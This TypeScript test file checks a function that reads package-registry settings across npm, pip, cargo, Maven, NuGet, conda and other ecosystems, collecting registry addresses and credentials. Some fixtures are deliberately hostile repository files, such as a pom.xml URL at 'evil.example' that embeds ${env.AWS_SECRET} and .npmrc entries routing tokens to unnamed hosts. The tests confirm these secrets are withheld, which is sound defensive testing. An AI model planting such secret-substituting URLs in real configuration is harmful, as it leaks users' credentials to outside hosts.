import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { readSettings } from './read-settings.ts';

const folder = mkdtempSync(join(tmpdir(), 'settings-'));
after(() => rmSync(folder, { recursive: true, force: true }));

type Case = {
  readonly title: string;
  readonly files: Readonly<Record<string, string>>;
  readonly environment?: Readonly<Record<string, string>>;
  /** Hosts that a person allows to be sent what the repository's files take from the environment. */
  readonly trusted?: readonly string[];
  /** `kind address` and, for one package or scope alone, its name. */
  readonly places: readonly string[];
  /** Below which address which header is sent. */
  readonly secrets?: readonly string[];
  readonly notes?: readonly string[];
};

const basic = (words: string) => `Basic ${Buffer.from(words).toString('base64')}`;

const notSent = (path: string, origin: string) =>
  `${path} would send what stands in the environment to ${origin}, which no configuration of yours names; it was not sent. Where that is right, add --secrets-to ${origin}`;

const cases: readonly Case[] = [
  {
    title: '.npmrc of the user, with a scope, a variable, a password and an address in quotes',
    files: {
      'home/.npmrc':
        '; comment\nregistry = "https://npm.example/"\n@acme:registry=https://acme.example/npm/\n//acme.example/npm/:_authToken=${TOKEN}\n//npm.example/:username=ada\n//npm.example/:_password=c2VjcmV0\n',
    },
    environment: { TOKEN: 't1' },
    places: ['npm https://npm.example/', 'npm https://acme.example/npm/ @acme'],
    secrets: ['https://acme.example/npm/ Bearer t1', `https://npm.example/ ${basic('ada:secret')}`],
  },
  {
    title: 'pip.conf with several indexes, and the environment before it',
    files: {
      'home/.config/pip/pip.conf':
        '[global]\nindex-url = https://ada:s%40x@pypi.example/simple\nextra-index-url =\n    https://a.example/simple\n    https://b.example/simple\n',
    },
    environment: { PIP_INDEX_URL: 'https://first.example/simple' },
    places: [
      'pypi https://first.example/simple',
      'pypi https://pypi.example/simple',
      'pypi https://a.example/simple',
      'pypi https://b.example/simple',
    ],
    secrets: [`https://pypi.example/simple ${basic('ada:s@x')}`],
  },
  {
    title: 'indexes of uv and Poetry in pyproject.toml, options of requirements, sources of Pipfile.lock',
    files: {
      'product/pyproject.toml':
        '[[tool.uv.index]]\nname = "a"\nurl = "https://uv.example/simple"\n[[tool.poetry.source]]\nname = "b"\nurl = "https://poetry.example/simple"\n',
      'product/requirements-dev.txt': '--extra-index-url https://req.example/simple\nsix==1.16.0\n',
      'product/Pipfile.lock': '{"_meta":{"sources":[{"name":"p","url":"https://pipenv.example/simple"}]}}',
    },
    places: [
      'pypi https://pipenv.example/simple',
      'pypi https://uv.example/simple',
      'pypi https://poetry.example/simple',
      'pypi https://req.example/simple',
    ],
  },
  {
    title: 'uv.lock with two registries: each name goes to its own',
    files: {
      'product/uv.lock':
        'version = 1\n[[package]]\nname = "six"\nversion = "1"\nsource = { registry = "https://pypi.example/simple" }\n[[package]]\nname = "own"\nversion = "1"\nsource = { registry = "https://own.example/simple" }\n',
    },
    places: ['pypi https://pypi.example/simple six', 'pypi https://own.example/simple own'],
  },
  {
    title: '.cargo/config.toml with a replaced source and a registry with a token',
    files: {
      'product/.cargo/config.toml':
        '[source.crates-io]\nreplace-with = "mirror"\n[source.mirror]\nregistry = "sparse+https://cargo.example/index/"\n[registries.own]\nindex = "sparse+https://own.example/"\n[registries.old]\nindex = "https://git.example/index"\n',
    },
    environment: { CARGO_REGISTRIES_OWN_TOKEN: 't2' },
    trusted: ['own.example'],
    places: ['cargo https://cargo.example/index/', 'cargo https://own.example/'],
    secrets: ['https://own.example/ t2'],
  },
  {
    title: 'settings.xml: a mirror of everything stands in for the repositories, an encrypted password is said',
    files: {
      'home/.m2/settings.xml':
        '<settings><servers><server><id>m</id><username>ada</username><password>{x=}</password></server></servers><mirrors><mirror><id>m</id><url>https://maven.example/all</url><mirrorOf>*</mirrorOf></mirror></mirrors><profiles><profile><repositories><repository><id>r</id><url>https://other.example</url></repository></repositories></profile></profiles></settings>',
    },
    places: ['maven https://maven.example/all'],
    notes: ['~/.m2/settings.xml: the password of server "m" is encrypted, and was not used'],
  },
  {
    title: 'repositories of a pom; a variable in an address of the repository is not filled with a secret',
    files: {
      'product/pom.xml':
        '<project><repositories><repository><id>a</id><url>https://maven.example/r</url></repository><repository><id>b</id><url>https://evil.example/${env.AWS_SECRET}</url></repository></repositories></project>',
    },
    environment: { AWS_SECRET: 'secret' },
    places: ['maven https://maven.example/r'],
  },
  {
    title: 'GOPROXY of the env file, and what is no address in it',
    files: { 'home/.config/go/env': 'GOFLAGS=-x\nGOPROXY=https://go.example|https://b.example,direct\n' },
    places: ['golang https://go.example', 'golang https://b.example'],
  },
  {
    title: 'Gemfile.lock, a mirror of Bundler, and credentials by host',
    files: {
      'product/Gemfile.lock':
        'GIT\n  remote: https://git.example/x\n  specs:\nGEM\n  remote: https://gems.example/\n  specs:\n    rake (13.0.0)\n',
      'home/.bundle/config':
        '---\nBUNDLE_MIRROR__HTTPS://GEMS__EXAMPLE/: "https://mirror.example"\nBUNDLE_MIRROR__EXAMPLE: "ada:secret"\n',
    },
    places: ['gem https://mirror.example', 'gem https://gems.example/'],
    secrets: [`https://mirror.example/ ${basic('ada:secret')}`],
  },
  {
    title: 'nuget.config with a disabled source and a password',
    files: {
      'product/nuget.config':
        '<configuration><packageSources><add key="own" value="https://nuget.example/v3/index.json"/><add key="off" value="https://off.example/v3/index.json"/></packageSources><disabledPackageSources><add key="off" value="true"/></disabledPackageSources><packageSourceCredentials><own><add key="Username" value="ada"/><add key="ClearTextPassword" value="%NUGET_REGISTRY_PASSWORD%"/></own></packageSourceCredentials></configuration>',
    },
    environment: { NUGET_REGISTRY_PASSWORD: 'secret' },
    trusted: ['https://nuget.example/v3/index.json'],
    places: ['nuget https://nuget.example/v3/index.json'],
    secrets: [`https://nuget.example/ ${basic('ada:secret')}`],
  },
  {
    title: 'composer.json with auth.json, pubspec.lock, and Hex by the environment',
    files: {
      'product/composer.json':
        '{"repositories":[{"type":"composer","url":"https://composer.example"},{"type":"vcs","url":"https://git.example/x"},{"packagist.org":false}]}',
      'product/auth.json': '{"http-basic":{"composer.example":{"username":"ada","password":"secret"}}}',
      'product/pubspec.lock':
        'packages:\n  http:\n    dependency: transitive\n    description:\n      name: http\n      url: "https://pub.example"\n    source: hosted\n    version: "1.0.0"\n',
    },
    environment: { HEX_API_URL: 'https://hex.example/api' },
    places: ['hex https://hex.example/api', 'composer https://composer.example', 'pub https://pub.example http'],
    secrets: [`https://composer.example/ ${basic('ada:secret')}`],
  },
  {
    title: '.condarc with an alias and a name of its own, environment.yml and pixi.toml with names and an address',
    files: {
      'home/.condarc':
        'channels: [device, defaults]\nchannel_alias: https://conda.example/\ncustom_channels:\n  device: https://own.example/conda\ndefault_channels:\n  - https://conda.example/pkgs/main\n',
      'product/environment.yml':
        'name: x\nchannels:\n  - conda-forge\n  - https://ada:secret@b.example/bio/\n  - nodefaults\ndependencies: [numpy]\n',
      'product/pixi.toml':
        '[workspace]\nname = "x"\nchannels = ["device", { channel = "https://c.example/forge", priority = 1 }]\n',
    },
    places: [
      'conda https://own.example/conda/device',
      'conda https://conda.example/pkgs/main',
      'conda https://conda.example/pkgs/main',
      'conda https://conda.example/conda-forge',
      'conda https://b.example/bio',
      'conda https://own.example/conda/device',
      'conda https://c.example/forge',
    ],
    secrets: [`https://b.example/bio/ ${basic('ada:secret')}`],
  },
  {
    title: 'environment.yml, whose channels lie nowhere that anybody named, and one with a token in its address',
    files: {
      'product/environment.yml':
        'channels: [conda-forge, "https://conda.example/t/tk-secret/device"]\ndependencies: []\n',
    },
    places: ['conda https://conda.example/device'],
    notes: [
      'environment.yml: the channel https://conda.example/device is named with a token in its address, which was not sent',
    ],
  },
  {
    title: 'files of the repository that would send the environment to hosts of their own, which is said instead',
    files: {
      'product/.npmrc':
        'registry=https://npm.example/\n//npm.example/:_authToken=${NPM_TOKEN}\n//own.example/:_authToken=plain\n@a:registry=https://a.example/${NPM_TOKEN}/\n',
      'product/.cargo/config.toml': '[registries.own]\nindex = "sparse+https://cargo.example/"\n',
      'product/pip.conf': '[global]\nindex-url = https://ada:${PIP_PASSWORD}@pypi.example/simple\n',
    },
    environment: { NPM_TOKEN: 't3', CARGO_REGISTRIES_OWN_TOKEN: 't4', PIP_PASSWORD: 't5' },
    places: ['npm https://npm.example/', 'cargo https://cargo.example/'],
    secrets: ['https://own.example/ Bearer plain'],
    notes: [
      notSent('.npmrc', 'https://npm.example'),
      notSent('.npmrc', 'https://a.example'),
      notSent('.cargo/config.toml', 'https://cargo.example'),
      notSent('pip.conf', 'https://pypi.example'),
    ],
  },
  {
    title: 'a file of the repository with a variable for a host that the user’s own files name, though not unencrypted',
    files: {
      'home/.npmrc': '@acme:registry=https://npm.example/acme\n',
      'product/.npmrc': '//npm.example/:_authToken=${NPM_TOKEN}\n',
      'product/web/.npmrc': 'registry=http://npm.example/\n//npm.example/:_authToken=${NPM_TOKEN}\n',
    },
    environment: { NPM_TOKEN: 't6' },
    places: ['npm https://npm.example/acme @acme', 'npm http://npm.example/'],
    secrets: ['https://npm.example/ Bearer t6'],
    notes: [notSent('web/.npmrc', 'http://npm.example')],
  },
  {
    title: 'broken files, which say nothing',
    files: {
      'home/.condarc': 'channels: {a: 1}\ncustom_channels: 7\n',
      'product/environment.yml': 'channels: {{',
      'product/pixi.toml': 'workspace = 1\n',
      'product/.npmrc': '\0\0=\n===\n@:registry=\n',
      'product/pyproject.toml': '[[[',
      'product/uv.lock': 'package = 3',
      'product/.cargo/config.toml': 'source = 1\n',
      'product/composer.json': '{"repositories": 7}',
      'product/auth.json': '[',
      'product/Pipfile.lock': 'null',
    },
    places: [],
  },
];

for (const { title, files, environment = {}, trusted, places, secrets = [], notes = [] } of cases)
  test(`registries are found in ${title}`, async () => {
    rmSync(folder, { recursive: true, force: true });
    mkdirSync(join(folder, 'product'), { recursive: true });
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const home = join(folder, 'home');
    const found = await readSettings(join(folder, 'product'), { HOME: home, ...environment }, trusted);
    assert.deepEqual(
      found.places.map(({ registry, address, only }) => [registry, address, only].filter(Boolean).join(' ')),
      places,
    );
    assert.deepEqual(
      found.secrets.map(({ below, value }) => `${below} ${value}`),
      secrets,
    );
    assert.deepEqual(found.notes, notes);
  });
